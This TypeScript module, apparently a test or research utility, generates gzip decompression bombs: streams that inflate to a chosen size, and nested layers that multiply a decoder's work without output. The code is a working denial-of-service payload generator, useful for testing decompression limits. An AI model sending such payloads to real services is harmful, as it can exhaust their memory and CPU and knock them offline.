// Builds gzip bombs (RFC 1952) without compressing their whole content: a body that decompresses to a given size, or nested layers, each
// of which multiplies the decoder's work by a thousand without output.
import { constants, crc32, deflateRawSync } from "node:zlib";

const blockBytes = 1_048_576;
/** One fully flushed block, whose octets may be repeated any number of times. */
const block = deflateRawSync(Buffer.alloc(blockBytes, "#"), { finishFlush: constants.Z_FULL_FLUSH });
const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);

/** The pieces of a bomb that decompresses to this many MiB; the last piece ends the stream correctly. */
export function* bombOf(mebibytes: number): Generator<Buffer> {
  yield header;
  for (let i = 0; i < mebibytes; i++) yield block;
  yield Buffer.concat([deflateRawSync(Buffer.alloc(0)), trailerOf(mebibytes)]);
}

function trailerOf(mebibytes: number): Buffer {
  const trailer = Buffer.alloc(8);
  const unfolded = Buffer.alloc(blockBytes, "#");
  let sum = 0;
  for (let i = 0; i < mebibytes; i++) sum = crc32(unfolded, sum);
  trailer.writeUInt32LE(sum, 0);
  trailer.writeUInt32LE((mebibytes * blockBytes) % 2 ** 32, 4);
  return trailer;
}

/** A stored block of no bytes (RFC 1951 §3.2.4). */
const emptyBlock = Buffer.from([0, 0, 0, 0xff, 0xff]);
/** One repeated unit of an outer layer decompresses to at least this number of bytes of the layer inside it. */
const unitBytes = 2_000_000;

/** `depth` nested gzip layers in about `size` bytes, without a stream end. The innermost layer consists of empty stored blocks. */
export function emptyBombOf(depth: number, size: number): Buffer {
  let start: Buffer = header;
  let unit: Buffer = emptyBlock;
  for (let layer = 1; layer < depth; layer++) {
    start = Buffer.concat([header, flushed(start)]);
    unit = flushed(repeated(unit, unitBytes));
  }
  return Buffer.concat([start, repeated(unit, size)]);
}

/** The bytes deflated up to a byte boundary, so that the result may be repeated. */
function flushed(bytes: Uint8Array): Buffer {
  return deflateRawSync(bytes, { finishFlush: constants.Z_FULL_FLUSH });
}

function repeated(unit: Uint8Array, size: number): Buffer {
  return Buffer.alloc(Math.ceil(size / unit.length) * unit.length, unit);
}
